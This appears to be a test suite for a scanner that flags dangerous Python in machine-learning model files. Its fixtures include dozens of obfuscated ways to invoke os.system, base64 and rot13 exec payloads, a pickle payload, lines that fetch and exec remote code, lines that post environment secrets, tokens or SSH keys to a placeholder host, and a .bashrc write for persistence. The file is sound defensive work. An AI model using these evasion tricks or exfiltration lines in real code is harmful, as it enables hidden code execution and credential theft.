import { describe, expect, it } from 'vitest';
import { examineFiles } from './testing.ts';

const encoded = Buffer.from('import os\nos.system("touch marker")').toString('base64');

async function lines(files: Readonly<Record<string, string | Uint8Array>> | string): Promise<readonly string[]> {
  const { findings } = await examineFiles(typeof files === 'string' ? { 'modeling_x.py': files } : files);
  return [...new Set(findings.map(({ severity, rule }) => `${severity} ${rule.replace('python/', '')}`))].sort();
}

describe('what runs on import', () => {
  it.each<[string, string]>([
    ['import os\nos.system("touch marker")', 'critical process'],
    ['import os as o; o.system("x")', 'critical process'],
    ['from subprocess import run as r\nr(["touch", "marker"])', 'critical process'],
    ['from os import *\nsystem("x")', 'critical process'],
    ['import os\ngetattr(os, "sys" + "tem")("x")', 'critical process'],
    ['__import__("os").system("x")', 'critical process'],
    ['import importlib\nimportlib.import_module("o" "s").popen("x")', 'critical process'],
    ['m = "".join(["o", "s"])\n__import__(m).system("x")', 'critical process'],
    ['__import__("so"[::-1]).system("x")', 'critical process'],
    ['__import__(chr(111) + chr(115)).system("x")', 'critical process'],
    ['__import__("".join(chr(c) for c in [111, 115])).system("x")', 'critical process'],
    ['__import__("".join(chr(ord(c) ^ 1) for c in "nr")).system("x")', 'critical process'],
    ['__import__(bytes([111, 115]).decode()).system("x")', 'critical process'],
    ['__import__("%s%s" % ("o", "s")).system("x")', 'critical process'],
    ['__import__("{}{}".format("o", "s")).system("x")', 'critical process'],
    ['__import__(f"{\'o\'}s").system("x")', 'critical process'],
    ['import os\nos.__dict__["system"]("x")', 'critical process'],
    ['import os\nvars(os)["system"]("x")', 'critical process'],
    ['import sys\nsys.modules["os"].system("x")', 'critical process'],
    ['__builtins__.__import__("os").system("x")', 'critical process'],
    ['__builtins__["eval"]("__import__(\'os\').system(1)")', 'critical process'],
    ['import posix\nposix.system("x")', 'critical process'],
    ['𝓸 = __import__("os")\no.system("x")', 'critical process'],
    ['import os\nd = {"a": os.system}\nd["a"]("x")', 'critical process'],
    ['import os\nlist(map(os.system, ["x"]))', 'critical process'],
    ['import os\nclass A: pass\nA.run = os\nA().run.system("x")', 'critical process'],
    ['class A:\n    import os\n    os.system("x")', 'critical process'],
    ['import os\ndef f(x=os.system("x")): pass', 'critical process'],
    ['import os\n@os.system\ndef f(): pass', 'critical process'],
    ['import os\nx: os.system("x") = 1', 'critical process'],
    ['import os\ndef g():\n  os.system("x")\ndef f():\n  g()\nf()', 'critical process'],
    ['import os\ndef run(f): f()\n@run\ndef f():\n  os.system("x")', 'critical process'],
    ['import atexit, os\n@atexit.register\ndef f():\n  os.system("x")', 'critical process'],
    ['import threading, os\ndef f():\n  os.system("x")\nthreading.Thread(target=f).start()', 'critical process'],
    ['import os\n(lambda: os.system("x"))()', 'critical process'],
    ['import os\n[os.system(c) for c in ["x"]]', 'critical process'],
    ['import os\nclass A:\n  def __init_subclass__(cls):\n    os.system("x")\nclass B(A): pass', 'critical process'],
    ['import os\ntry:\n  import nothing\nexcept ImportError:\n  os.system("x")', 'critical process'],
    ['def get():\n  import os\n  return os\nget().system("x")', 'critical process'],
    ['def imp(n): return __import__(n)\nimp("o" + "s").system("x")', 'critical process'],
    ['import os\nif (s := os.system)("x"): pass', 'critical process'],
    ['match 1:\n  case 1:\n    import os\n    os.system("x")', 'critical process'],
    ['exec("import os\\nos.system(1)")', 'critical process'],
    ['exec(compile("import os; os.system(1)", "a", "exec"))', 'critical process'],
    [
      'import asyncio\nasync def f():\n  await asyncio.create_subprocess_shell("x")\nasyncio.run(f())',
      'critical process',
    ],
    ['import logging\nlogging.os.system("x")', 'critical process'],
    ['import os.path as p\np.os.system("x")', 'critical process'],
    ['__import__("os.path").system("x")', 'critical process'],
    ['eval("__import__(\'os\')").system("x")', 'critical process'],
    ['import os\nos.__getattribute__("system")("x")', 'critical process'],
    ['import os\nobject.__getattribute__(os, "system")("x")', 'critical process'],
    ['import pkgutil\npkgutil.resolve_name("os:system")("x")', 'critical process'],
    ['import sys\nsys.modules.get("os").system("x")', 'critical process'],
    ['import os\nglobals().get("os").system("x")', 'critical process'],
    ['import os\ndict(a=os)["a"].system("x")', 'critical process'],
    ['import operator, os\noperator.attrgetter("system")(os)("x")', 'critical process'],
    ['import ctypes\nctypes.CDLL(None).system(b"x")', 'critical process'],
    ['import pickle\npickle.loads(b"cos\\nsystem\\n(S\'x\'\\ntR.")', 'critical hidden-code'],
    ['import os\ndef __getattr__(name):\n  os.system("x")', 'critical process'],
    ['n = {}\nexec("def f():\\n  import os\\n  os.system(1)", n)\nn["f"]()', 'high process'],
    ['import os\nclass A:\n  @property\n  def x(self):\n    os.system("x")', 'high process'],
  ])('%s', async (code, expected) => expect(await lines(code)).toContain(expected));
});

describe('what is hidden, fetched or taken', () => {
  it.each<[string, readonly string[]]>([
    [`import base64\nexec(base64.b64decode("${encoded}"))`, ['critical hidden-code', 'critical process']],
    ['import zlib\nexec(zlib.decompress(DATA))', ['critical hidden-code']],
    ['import marshal, types\ntypes.FunctionType(marshal.loads(b"x"), {})()', ['critical hidden-code']],
    [
      'import codecs\nexec(codecs.decode("vzcbeg bf; bf.flfgrz(1)", "rot13"))',
      ['critical hidden-code', 'critical process'],
    ],
    ['import os\ngetattr(os, name)("x")', ['high hidden-name']],
    ['().__class__.__base__.__subclasses__()', ['high hidden-code']],
    ['exec(open("x.txt").read())', ['high dynamic-code']],
    [
      'import urllib.request\nexec(urllib.request.urlopen("http://x.example").read())',
      ['critical downloaded-code', 'medium network'],
    ],
    [
      'import requests\ncode = requests.get(u).text\nexec(compile(code, "a", "exec"))',
      ['critical downloaded-code', 'medium network'],
    ],
    [
      'from huggingface_hub import hf_hub_download as h\nexec(open(h("a/b", "x.py")).read())',
      ['critical downloaded-code'],
    ],
    ['import torch\ntorch.hub.load("a/b", "c")', ['high remote-code']],
    [
      'from transformers import AutoModel\nAutoModel.from_pretrained("a/b", trust_remote_code=True)',
      ['high remote-code'],
    ],
    ['import os\nkey = open(os.path.expanduser("~/.ssh/id_rsa")).read()', ['high exfiltration']],
    [
      'import requests, os\nrequests.post("http://x.example", json=dict(os.environ))',
      ['critical exfiltration', 'medium network'],
    ],
    [
      'import requests, os\nrequests.post(U, data=os.environ["AWS_SECRET_ACCESS_KEY"])',
      ['critical exfiltration', 'medium network'],
    ],
    [
      'import os, urllib.request as u\nu.urlopen("http://x.example/?" + os.getenv("HF_TOKEN"))',
      ['critical exfiltration', 'medium network'],
    ],
    [
      'from pathlib import Path\nimport requests\ndef send(d):\n  requests.post(U, data=d)\nsend((Path.home() / ".ssh" / "id_rsa").read_text())',
      ['critical exfiltration', 'high exfiltration', 'medium network'],
    ],
    ['import os\nopen(os.path.expanduser("~/.bashrc"), "a").write("x")', ['critical startup-file']],
    ['import ctypes\nctypes.CDLL("./x.so")', ['medium native-code']],
    ['import torch\ntorch.load("x.bin")', ['medium unsafe-load']],
    ['import shutil\nshutil.rmtree("/data")', ['medium deletion']],
  ])('%s', async (code, expected) => {
    const found = await lines(code);
    expect(found).toEqual(expected.map((line) => line.replace('hidden-name', 'hidden-code')));
  });
});

describe('when it runs', () => {
  const body = 'import os\nclass M:\n  def NAME(self):\n    os.system("x")\n';
  it.each([
    ['__init__', ['critical process']],
    ['forward', ['critical process']],
    ['helper', ['medium process']],
  ])('in %s', async (name, expected) => expect(await lines(body.replace('NAME', name))).toEqual(expected));

  it('as a script is a lesser matter', async () => {
    expect(await lines('import os\nif __name__ == "__main__":\n  os.system("x")')).toEqual(['medium process']);
  });

  it('in a method that another one calls', async () => {
    const code =
      'import os\nclass M:\n  def forward(self):\n    self.helper()\n  def helper(self):\n    os.system("x")\n';
    expect(await lines(code)).toEqual(['critical process']);
  });

  it('in a file that it imports', async () => {
    const files = {
      'modeling_x.py': 'from .inner.tools import setup\nsetup()',
      'inner/tools.py': 'import os\ndef setup():\n  os.system("x")',
    };
    const { findings, gaps } = await examineFiles(files);
    expect(gaps).toEqual([]);
    expect(findings.map(({ severity, location }) => [severity, 'path' in location && location.path])).toEqual([
      ['critical', 'model/inner/tools.py'],
    ]);
  });

  it('says where, and what', async () => {
    const { findings } = await examineFiles({ 'modeling_x.py': 'import os\n\n\nos.system("touch marker")\n' });
    expect(findings[0]).toMatchObject({
      message: 'Importing the file starts a process: os.system with "touch marker".',
      location: { path: 'model/modeling_x.py', line: 4 },
      excerpts: [{ text: 'os.system("touch marker")' }],
    });
  });
});

describe('ordinary code is left alone', () => {
  it.each([
    'import os, re, torch, logging\nx = os.path.join("a", "b")\np = re.compile("a")\nf = torch.compile(p)\nlogging.getLogger(__name__)',
    'import importlib.util\nhas = importlib.util.find_spec("flash_attn") is not None',
    'import torch\nclass M(torch.nn.Module):\n  def __init__(self):\n    self.x = torch.nn.Linear(1, 2)\n  def forward(self, x):\n    self.eval()\n    return torch.utils.checkpoint.checkpoint(self.x, x)',
    'class T:\n  def __init__(self, vocab_file):\n    with open(vocab_file, encoding="utf-8") as f:\n      self.v = f.read()',
    'import os, requests\ndef f():\n  return requests.get("https://x", headers={"Authorization": "Bearer " + os.environ["HF_TOKEN"]})',
    'import os\nos.environ["TOKENIZERS_PARALLELISM"] = "false"\nn = os.environ.get("WORLD_SIZE", 1)',
    'import torch\nweights = torch.load("x", weights_only=True)',
    'def f(x):\n  return x.exec(1) + x.system + x.eval("a")',
    'match = 1\ncase = match\ntype = case\nprint(match[0], type)',
  ])('%s', async (code) => {
    const { findings, gaps } = await examineFiles({ 'modeling_x.py': code });
    expect({ findings, gaps }).toEqual({ findings: [], gaps: [] });
  });
});

describe('what cannot be examined is a gap', () => {
  it.each<[string, string | Uint8Array, string]>([
    ['a syntax error', 'x = 1\nif x\n  pass', 'is no Python 3 at line 2: expected :'],
    ['Python 2', 'print "x"', 'is no Python 3 at line 1: expected newline'],
    ['a missing file', 'from .other import x', 'imports .other, which is not there to be examined'],
    ['no text', Uint8Array.of(0xff, 0xfe, 0x41), 'the code is not in UTF-8'],
    ['null bytes', 'x = 1\0', 'the code has null bytes'],
    ['deep nesting', `${'('.repeat(1000)}1${')'.repeat(1000)}`, 'is no Python 3 at line 1: nested more than 200 deep'],
    ['a long chain', `x${'.y()'.repeat(1000)}`, 'is no Python 3 at line 1: a chain of more than 200 calls'],
    ['another coding', '# coding: utf-7\nx = 1', 'the coding utf-7 is not read here'],
    ['too much', '#'.repeat(3 * 2 ** 20), 'the code has 3145728 bytes; at most 2097152 are examined'],
  ])('%s', async (_, code, reason) => {
    const { gaps } = await examineFiles({ 'modeling_x.py': code });
    expect(gaps.map((gap) => gap.reason)).toEqual([reason]);
  });
});
